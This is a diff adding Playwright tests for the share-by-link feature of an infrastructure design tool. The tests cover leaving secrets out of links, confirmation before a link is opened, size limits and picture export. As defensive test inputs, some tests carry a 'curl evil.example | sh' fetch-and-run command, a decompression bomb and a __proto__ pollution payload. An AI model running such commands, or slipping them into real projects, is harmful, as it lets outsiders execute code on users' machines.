@@ -1,0 +1,429 @@
+import { readFile } from "node:fs/promises";
+import { deflateRawSync, inflateRawSync } from "node:zlib";
+
+import type { Locator, Page } from "@playwright/test";
+
+import { expectAccessibleInBothThemes } from "./axe.ts";
+import { serveCopy } from "./copied-build.ts";
+import type { Designer } from "./designer.ts";
+import { expect, test, textOf } from "./designer.ts";
+import { command, manifest } from "./parts.ts";
+import { design, plainSecret, preview, stackExport } from "./plan-files.ts";
+import { canvasSettled } from "./settled.ts";
+import { readEverything, readStore } from "./storage.ts";
+
+test.beforeEach(({ context }) => context.grantPermissions(["clipboard-read", "clipboard-write"]));
+
+const dialog = (page: Page, name: RegExp | string): Locator => page.getByRole("dialog", { name });
+
+const share = (page: Page): Locator => dialog(page, /^Share “/);
+
+const asked = (page: Page): Locator => dialog(page, /from a link\?$/);
+
+const notice = (page: Page): Locator =>
+  page
+    .getByRole("status")
+    .filter({ has: page.getByRole("button", { name: "Dismiss the notice" }) });
+
+async function openShare(designer: Designer): Promise<Locator> {
+  await designer.export("Share");
+  const opened = share(designer.page);
+  await expect(opened.getByRole("button", { name: "Copy link" })).toBeEnabled();
+  return opened;
+}
+
+/** The link that the open dialog copies. */
+async function copyLink({ page }: Designer): Promise<string> {
+  await share(page).getByRole("button", { name: "Copy link" }).press("Enter");
+  await expect(share(page)).toHaveCount(0);
+  await expect(notice(page)).toContainText("Copied the link.");
+  return page.evaluate(() => navigator.clipboard.readText());
+}
+
+const fragmentOf = (link: string): string => link.slice(link.indexOf("#"));
+
+/** What a link holds, by other means than the page's own. */
+const textIn = (link: string): string =>
+  inflateRawSync(Buffer.from(link.slice(link.indexOf("#design=1.") + 10), "base64url")).toString();
+
+const linkOf = (text: string | Uint8Array): string =>
+  `#design=1.${deflateRawSync(text).toString("base64url")}`;
+
+const name = (page: Page): Locator => page.getByRole("textbox", { name: "Name of the design" });
+
+/** Makes the address another one, as a person does who pastes it. */
+const changeFragment = (page: Page, fragment: string): Promise<void> =>
+  page.evaluate((next) => {
+    location.hash = next;
+  }, fragment);
+
+const orders = {
+  name: "orders",
+  config: { region: { type: "string", default: "eu" } },
+  resources: {
+    endpoint: { type: "gamma:events:EventEndpoint", properties: { name: "x-${region}" } },
+    policy: { type: "delta:RestrictionPolicy", properties: { resourceId: "${endpoint.arn}" } },
+  },
+  outputs: { arn: "${endpoint.arn}" },
+  stackwright: {
+    direction: "right",
+    positions: { endpoint: "40 60", policy: "400 80" },
+    target: { kind: "vendor" },
+  },
+};
+
+test("a link opens on another copy of the build, shown before it is kept, and no server gets the design", async ({
+  designer,
+  page,
+}) => {
+  const copy = await serveCopy();
+  try {
+    await designer.open();
+    await designer.openFile("Main.json", JSON.stringify(orders));
+    await expect(designer.outlineNames()).toHaveCount(2);
+    const before = await manifest(designer);
+    await openShare(designer);
+    await expect(share(page)).toContainText("The link holds the design itself.");
+    await expect(share(page).getByLabel("Link", { exact: true })).toHaveValue(/#design=1\./);
+    await expectAccessibleInBothThemes(designer);
+    const link = await copyLink(designer);
+    expect(link.startsWith(`${page.url()}#design=1.`)).toBe(true);
+
+    const workers: string[] = [];
+    page.on("worker", (worker) => workers.push(worker.url()));
+    await page.goto(`${copy.address}${fragmentOf(link)}`);
+    await expect(asked(page)).toBeVisible();
+    await expect(asked(page)).toContainText("2 resources, 1 config variable, 1 output");
+    await expect(asked(page).getByRole("listitem")).toHaveText([
+      "endpoint gamma:events:EventEndpoint",
+      "policy delta:RestrictionPolicy",
+    ]);
+    await expectAccessibleInBothThemes(designer);
+    expect(page.url()).toBe(copy.address);
+    // Neither in a snapshot nor anywhere else.
+    expect(await readEverything(page)).not.toContain("x-${region}");
+    expect(workers.some((url) => /open-worker/.test(url))).toBe(true);
+
+    await asked(page).getByRole("button", { name: "Open a copy" }).press("Enter");
+    await expect(designer.outlineNames()).toHaveCount(2);
+    await designer.saved();
+    expect(await manifest(designer)).toEqual(before);
+    await page.reload();
+    await expect(name(page)).toHaveValue("orders");
+    await expect(asked(page)).toHaveCount(0);
+    expect(copy.requests.length).toBeGreaterThan(5);
+    expect(copy.requests.filter((url) => /design=|#/.test(url))).toEqual([]);
+  } finally {
+    await copy.stop();
+  }
+});
+
+test("layout and target go into the link; states, previews and what they say do not", async ({
+  designer,
+}) => {
+  const { page } = designer;
+  await designer.open();
+  const { stackwright } = orders;
+  const placed = { ...stackwright, positions: { orders: "40 60" } };
+  await designer.openFile(
+    "Main.json",
+    JSON.stringify({ ...(JSON.parse(design) as object), stackwright: placed }),
+  );
+  await designer.openFile("stack.json", stackExport);
+  await page.getByRole("button", { name: "Compare with this design" }).click();
+  await designer.openFile("preview.json", preview());
+  await page.getByRole("button", { name: "Show on this design" }).click();
+  await openShare(designer);
+  const text = textIn(await copyLink(designer));
+  expect(JSON.parse(text)).toMatchObject({ name: "shop", stackwright: placed });
+  for (const said of [plainSecret, "urn:pulumi", "migration", "group:all@example.com", "replace"])
+    expect(text).not.toContain(said);
+});
+
+const secrets = `name: shop # sentinel-0
+runtime: yaml
+config:
+  password: { type: string, secret: true, default: sentinel-1 }
+resources:
+  policy:
+    type: delta:RestrictionPolicy
+    properties:
+      resourceId: { fn::secret: sentinel-2 }
+outputs:
+  key: { fn::secret: sentinel-3 }
+`;
+
+test("secrets stay out of a link: it is said before, and placeholders stand in their place", async ({
+  designer,
+  page,
+}) => {
+  await designer.open();
+  await designer.openFile("Pulumi.yaml", secrets);
+  await expect(notice(page)).toContainText("3 secrets in plain text.");
+  await page.getByRole("button", { name: "Dismiss the notice" }).click();
+  const opened = await openShare(designer);
+  await expect(opened).toContainText("3 secrets left out.");
+  await expect(opened.getByRole("listitem")).toHaveText(["password", "policyResourceId", "key"]);
+  await expect(opened).toContainText("Comments of the YAML file are left out.");
+  await expectAccessibleInBothThemes(designer);
+  const text = textIn(await copyLink(designer));
+  expect(text).not.toContain("sentinel");
+  expect(JSON.parse(text)).toMatchObject({
+    config: { password: { secret: true }, policyResourceId: { secret: true } },
+    resources: { policy: { properties: { resourceId: "${policyResourceId}" } } },
+    outputs: { key: expect.stringMatching(/^\$\{key/) },
+  });
+});
+
+test("of types that are not loaded each value stays out until it is approved by name", async ({
+  designer,
+  page,
+}) => {
+  const properties = { size: "large", password: "hunter2", tags: ["a", "${policy.id}"] };
+  await designer.open();
+  await designer.openInstead("cloudy", {
+    resources: {
+      db: { type: "cloud:Database", properties },
+      policy: { type: "delta:RestrictionPolicy", properties: { resourceId: "dashboard:a" } },
+    },
+  });
+  const opened = await openShare(designer);
+  const values = opened.getByRole("group", { name: "Values that may be secrets" });
+  await expect(values.getByRole("checkbox")).toHaveCount(3);
+  await expect(values.getByRole("checkbox", { checked: true })).toHaveCount(0);
+  await expectAccessibleInBothThemes(designer);
+  await values.getByRole("checkbox", { name: "db · size" }).press("Space");
+  await expect(values.getByRole("checkbox", { name: "db · size" })).toBeChecked();
+  await expect(opened.getByRole("button", { name: "Copy link" })).toBeEnabled();
+  const { resources } = JSON.parse(textIn(await copyLink(designer)));
+  expect(resources.db.properties).toEqual({
+    size: "large",
+    password: null,
+    tags: [null, "${policy.id}"],
+  });
+  expect(resources.policy.properties).toEqual({ resourceId: "dashboard:a" });
+  expect((await manifest(designer))["resources"]).toMatchObject({ db: { properties } });
+});
+
+test("a link in the address of an open page is asked about, and never replaces the design", async ({
+  designer,
+  page,
+}) => {
+  await designer.open();
+  await designer.add("delta:RestrictionPolicy");
+  await designer.fill("resourceId", "dashboard:mine");
+  const link = linkOf(JSON.stringify({ ...orders, name: "theirs" }));
+  await changeFragment(page, link);
+  await expect(asked(page)).toBeVisible();
+  expect(new URL(page.url()).hash).toBe("");
+  await page.keyboard.press("Escape");
+  await expect(asked(page)).toHaveCount(0);
+  await expect(designer.field("resourceId")).toHaveValue("dashboard:mine");
+  await designer.saved();
+  expect(await readEverything(page)).not.toContain("theirs");
+
+  await changeFragment(page, link);
+  await asked(page).getByRole("button", { name: "Open a copy" }).click();
+  await expect(name(page)).toHaveValue("theirs");
+  await designer.saved();
+  const stored = JSON.stringify(await readStore(page, "resources"));
+  for (const said of ["dashboard:mine", "x-${region}"]) expect(stored).toContain(said);
+});
+
+test("what a link runs is listed before it is kept, and each entry leads to its place", async ({
+  designer,
+  page,
+}) => {
+  const evil = {
+    name: "evil",
+    resources: {
+      deploy: { type: "command:local:Command", properties: { create: "curl evil.example | sh" } },
+    },
+  };
+  await page.goto(`/${linkOf(JSON.stringify(evil))}`);
+  const runs = asked(page).getByRole("list", { name: "Runs commands" }).getByRole("button");
+  await expect(runs).toHaveText(["curl evil.example | sh deploy (command:local:Command)"]);
+  await expectAccessibleInBothThemes(designer);
+  await runs.click();
+  await expect(asked(page)).toHaveCount(0);
+  await expect(designer.field("Name")).toHaveValue("deploy");
+});
+
+test("a link that is damaged, too large or of another form is refused in a sentence, and nothing is kept", async ({
+  designer,
+  page,
+}) => {
+  await designer.open();
+  const whole = linkOf(JSON.stringify(orders));
+  const bomb = linkOf(new Uint8Array(300_000_000));
+  const refused: readonly (readonly [string, RegExp])[] = [
+    [whole.slice(0, -20), /it is not whole, or was changed on its way/],
+    [`${whole}%20`, /it is not whole, or was changed on its way/],
+    ["#design=2.AAAA", /made by another version of the designer/],
+    [bomb, /its design is larger than 4 MB/],
+    [linkOf("[]"), /holds something else/],
+    [linkOf(`{"resources":${"[".repeat(200_000)}`), /could not be opened/],
+  ];
+  for (const [fragment, message] of refused) {
+    await changeFragment(page, fragment);
+    await expect(notice(page)).toContainText(message);
+    await page.getByRole("button", { name: "Dismiss the notice" }).click();
+    expect(new URL(page.url()).hash).toBe("");
+  }
+  await designer.untouched();
+  expect(await readStore(page, "heads")).toEqual([]);
+  await expectPolluted(page, false);
+  await changeFragment(page, linkOf('{"name":"odd","__proto__":{"polluted":1},"resources":{}}'));
+  await asked(page).getByRole("button", { name: "Open a copy" }).click();
+  await expect(name(page)).toHaveValue("odd");
+  await expectPolluted(page, false);
+});
+
+const expectPolluted = async (page: Page, isPolluted: boolean): Promise<void> =>
+  expect(await page.evaluate(() => "polluted" in {})).toBe(isPolluted);
+
+/** Text that does not compress. */
+const noise = (length: number): string => {
+  let state = 1;
+  let text = "";
+  while (text.length < length) {
+    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
+    text += state.toString(36);
+  }
+  return text.slice(0, length);
+};
+
+async function openNoise(designer: Designer, called: string, length: number): Promise<void> {
+  await designer.openInstead(called, {
+    resources: {
+      policy: { type: "delta:RestrictionPolicy", properties: { resourceId: noise(length) } },
+    },
+  });
+}
+
+test("over 2 kB the dialog says that chats may cut the link, and over 8 kB it offers a file", async ({
+  designer,
+  page,
+}) => {
+  await designer.open();
+  await openNoise(designer, "short", 300);
+  await expect(await openShare(designer)).not.toContainText("chats");
+  await page.keyboard.press("Escape");
+  await openNoise(designer, "longer", 3000);
+  const longer = await openShare(designer);
+  await expect(longer).toContainText("Some chats cut links of this length.");
+  await expect(longer.getByRole("button", { name: "Download file" })).toHaveCount(0);
+  expect((await copyLink(designer)).length).toBeGreaterThan(2000);
+
+  await openNoise(designer, "longest", 12_000);
+  const longest = await openShare(designer);
+  await expect(longest).toContainText("Most chats cut links of this length. Share it as a file.");
+  const started = page.waitForEvent("download");
+  await longest.getByRole("button", { name: "Download file" }).press("Enter");
+  const file = await started;
+  expect(file.suggestedFilename()).toBe("Main.json");
+  expect(await textOf(file)).toContain(noise(12_000));
+  expect((await copyLink(designer)).length).toBeGreaterThan(8000);
+
+  await openNoise(designer, "too large", 2_000_000);
+  await designer.export("Share");
+  await expect(share(page)).toContainText("The design is too large for a link.");
+  await expect(share(page).getByRole("button", { name: "Copy link" })).toBeDisabled();
+});
+
+test("a picture is shared with a title, in either theme", async ({ designer, page }) => {
+  await designer.open();
+  await designer.openFile("Main.json", JSON.stringify(orders));
+  const save = async (format: string, theme: string, title?: string) => {
+    await designer.export("Share as picture");
+    const opened = dialog(page, "Share as picture");
+    await expect(opened.getByLabel("Title")).toHaveValue("orders");
+    if (title !== undefined) await opened.getByLabel("Title").fill(title);
+    await opened.getByRole("radio", { name: theme }).check();
+    await opened.getByRole("radio", { name: format }).check();
+    if (title === undefined) await expectAccessibleInBothThemes(designer);
+    const started = page.waitForEvent("download");
+    await opened.getByRole("button", { name: "Download" }).press("Enter");
+    await expect(opened).toHaveCount(0);
+    return started;
+  };
+  const dark = await save("SVG", "Dark");
+  expect(dark.suggestedFilename()).toBe("orders.svg");
+  const text = await textOf(dark);
+  expect(text).toContain('font-size="20" font-weight="600"');
+  expect(text).toContain(">orders</text>");
+  expect(text).toContain('fill="#14171b"');
+  await canvasSettled(page);
+  const light = await textOf(await save("SVG", "Light", "Orders in <June>"));
+  expect(light).toContain(">Orders in &lt;June&gt;</text>");
+  expect(light).toContain('fill="#ffffff"');
+  expect(light).not.toContain("#14171b");
+  const png = await save("PNG", "Dark", "");
+  const bytes = await readFile(await png.path());
+  expect(bytes.subarray(1, 4).toString()).toBe("PNG");
+  // Without a title it is as high as the design alone.
+  expect(bytes.readUInt32BE(20)).toBe(2 * (heightOf(light) - 60));
+});
+
+const heightOf = (svg: string): number => Number(/height="(\d+)"/.exec(svg)?.[1]);
+
+test("on a narrow screen a link is copied and opened, and nothing is wider than the screen", async ({
+  designer,
+  page,
+}) => {
+  await page.setViewportSize({ width: 320, height: 640 });
+  await designer.open();
+  await designer.openFile(
+    "Main.json",
+    JSON.stringify({
+      ...orders,
+      resources: {
+        ...orders.resources,
+        db: { type: "cloud:Database", properties: { ["long".repeat(20)]: "value".repeat(20) } },
+      },
+    }),
+  );
+  await openShare(designer);
+  await expectNoSidewaysScroll(page);
+  await expectAccessibleInBothThemes(designer);
+  const link = await copyLink(designer);
+  await changeFragment(page, fragmentOf(link));
+  await expect(asked(page)).toBeVisible();
+  await expectNoSidewaysScroll(page);
+  await expectAccessibleInBothThemes(designer);
+  await asked(page).getByRole("button", { name: "Open a copy" }).click();
+  await expect(asked(page)).toHaveCount(0);
+  await designer.saved();
+});
+
+async function expectNoSidewaysScroll(page: Page): Promise<void> {
+  const overflow = await page.evaluate(() =>
+    [document.documentElement, ...document.querySelectorAll("dialog")].map(
+      ({ scrollWidth, clientWidth }) => scrollWidth - clientWidth,
+    ),
+  );
+  expect(Math.max(...overflow)).toBeLessThanOrEqual(0);
+}
+
+test("the command palette shares as well, and where copying is refused the link is there to copy", async ({
+  designer,
+  page,
+}) => {
+  await designer.open();
+  await designer.openFile("Main.json", JSON.stringify(orders));
+  await page.evaluate(() => {
+    navigator.clipboard.writeText = () => Promise.reject(new Error("no"));
+  });
+  await command(designer, "share");
+  await expect(share(page).getByRole("button", { name: "Copy link" })).toBeEnabled();
+  await share(page).getByRole("button", { name: "Copy link" }).click();
+  await expect(share(page).getByRole("status")).toContainText(
+    "The browser did not allow copying. Copy the link above.",
+  );
+  await share(page).getByLabel("Link", { exact: true }).focus();
+  const selected = await page.evaluate(() => {
+    const field = document.activeElement as HTMLInputElement;
+    return field.value.slice(field.selectionStart ?? 0, field.selectionEnd ?? 0);
+  });
+  expect(JSON.parse(textIn(selected))).toMatchObject({ name: "orders" });
+});
